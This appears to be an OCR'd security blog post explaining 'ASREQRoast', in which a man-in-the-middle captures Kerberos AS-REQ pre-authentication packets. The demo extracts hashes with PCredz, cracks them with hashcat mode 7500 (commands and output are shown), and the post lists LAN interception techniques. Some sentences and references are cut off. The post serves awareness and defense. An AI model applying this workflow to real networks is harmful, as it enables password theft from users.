ASREQRoast - From MITM to hash


While reading up on the typical kerberos authentication workflow, I
realized that it's possible to get a hash of the user's password (that you
can attempt to crack). The only thing you have to do is to intercept the
first packet in the kerberos authentication process, called AS-REQ.

I didn't find the attack to be as well documented as the other attacks such
as kerberoasting or ASREPRoast[4], therefore I decided to write this post
to increase awareness of the issue.

What this attack means is that an attacker who can gain a passive
man-in-the-middle position (MITM) for the duriation of user logon or other
action that triggers kerberos authentication, will be able to launch
offline password cracking attacks against the victim user performing the
authentication attempt.

I'd like to point out that this attack has been known at least since 2014:

"Thus, Kerberos pre-authentication can prevent the active
attacker. However, it does not prevent a passive attacker
from sniffing the client's encrypted timestamp message to
the KDC. If the attacker can sniff that full packet, he
can brute force it offline."[5]

The oldest reference of pre-authentication I can find is from rfc6113[7],
which was published April 2011.

# Demo

For this demo, I'll use a sample from Wireshark's collection. Imagine that
you collected it yourself by sniffing traffic from a victim user.

Sample: krb-816 from wireshark's sample page[0].

Launching the PCredz[1] tool from @lgandx to scan the pcap file:

~/tools/PCredz $ ./Pcredz -f ~/downloads/krb-816.cap
Pcredz 1.0.0
Author: Laurent GaffiePlease send bugs/comments/pcaps to: [email protected]
This script will extract NTLM (http,ldap,smb,sql,etc), Kerberos,
FTP, HTTP Basic and credit card data from a given pcap file or from a
live interface.
CC number scanning activated
Using TCPDump format
1 protocol: udp >
MSKerb hash found: $krb5pa$23$des$DENYDC$dummy$32d396a914a4d0a78e979ba7
19 protocol: udp >
MSKerb hash found: $krb5pa$23$u5$DENYDC$dummy$daf324dccec73739f6e49ef8f
/home/magnus/downloads/krb-816.cap parsed in: 0.0747 seconds (File size
0.0343 Mo).

The capture contained two AS-REQ's that used pre-authentication[2], which
means that the user's NTLM hash was used as an encryption key to encrypt a
timestamp. Therefore, we can test if a user has a specific password by
hashing it with NTLM, and then using the hash in an attempt to decrypt the
encrypted timestamp. If it worked, we've successfully guessed the victim's
password. In other words, we may launch an offline bruteforce attack.We can do that with hashcat[3], mode 7500:

~/tools/hashcat $ ./hashcat -m 7500 as-req.hashes
hashcat (v5.1.0-893-gb8ab78d4) starting...
Dictionary cache built:
* Filename..: /Users/mks/resources/SecLists/Passwords/
* Passwords.: 3721224
* Bytes.....: 41000012
* Keyspace..: 3721224
* Runtime...: 0 secs


Session..........: hashcat
Status...........: Cracked
Hash.Name........: Kerberos 5 AS-REQ Pre-Auth etype 23
Hash.Target......: /Users/mks/shared/as-req.hashes
Time.Started.....: Mon Jul 1 13:49:22 2019 (0 secs)
Time.Estimated...: Mon Jul 1 13:49:22 2019 (0 secs)
Guess.Base.......: File (/Users/mks/resources/SecLists/Passwords/openwa
Guess.Queue......: 1/1 (100.00%)
Speed.#2.........: 288.7 kH/s (7.43ms) @ Accel:2 Loops:1 Thr:64 Vec:1
Speed.#*.........: 288.7 kH/s
Recovered........: 2/2 (100.00%) Digests, 2/2 (100.00%) Salts
Progress.........: 6144/7442448 (0.08%)
Rejected.........: 0/6144 (0.00%)
Restore.Point....: 0/3721224 (0.00%)
Restore.Sub.#2...: Salt:1 Amplifier:0-1 Iteration:0-1
Candidates.#2....: 12345 -> acumen

Started: Mon Jul 1 13:49:13 2019
Stopped: Mon Jul 1 13:49:24 2019

That's it.

# Mitigation

There's none. Technically speaking, you could disable kerberos
pre-authentication, but that makes you vulnerable to the even more scarier
ASREPRoast[4] attack. Your best bet is increasing the difficulty of
cracking user's passwords, ensuring that 2FA is enabled on all
authentication sites and increasing the difficulty of getting a MITM

Luckily, kerberos isn't typically used over the internet, therefore
limiting the attack surface. However gaining a MITM position on a LAN has
historically been straight forward.

As an example, these are just a few techniques to gain MITM on a LAN:

- ARP poisoning
- ICMP type 13 redirect
- rogue DHCP
- rogue IPv6 announcements

The problem is that there's no confidentiality protection of thetraffic.
If only some transport layer encryption was in place, problem would be

# Practicality

The practicallity of this attack depends on your abilities to gain MITM
and the complexity of user passwords.
Since there is no active part besides MITMing avictim, the level of
stealth of this attack is the same as the level of stealth involved in
gaining and maintaining your MITM position.

# Password cracking performance

Here's a comparison from a hashcat benchmark of NTLM and the AS-REQ packet
on a RTX 2080Ti. As you can see it's 135 times slower to crack AS-REQ
hashes when comparing to NTLM hashes. That's not really that bad when
thinking about the fact that you could get cracking speeds of 632 GH/s with
NTLM for $7.34/hour on AWS[6]. That would be about 4.7 GH/s with AS-REQ.

Hashmode: 1000 - NTLM
Speed.#1.........: 87510.8 MH/s (24.82ms) @ Accel:32 Loops:1024 Thr:
1024 Vec:2

Hashmode: 7500 - Kerberos 5 AS-REQ Pre-Auth etype 23
Speed.#1.........: 646.0 MH/s (54.71ms) @ Accel:128 Loops:64 Thr:
64 Vec:1

If you have an opinion of the practicality ofthis attack, let me know.

#References

2: Pre-Authentication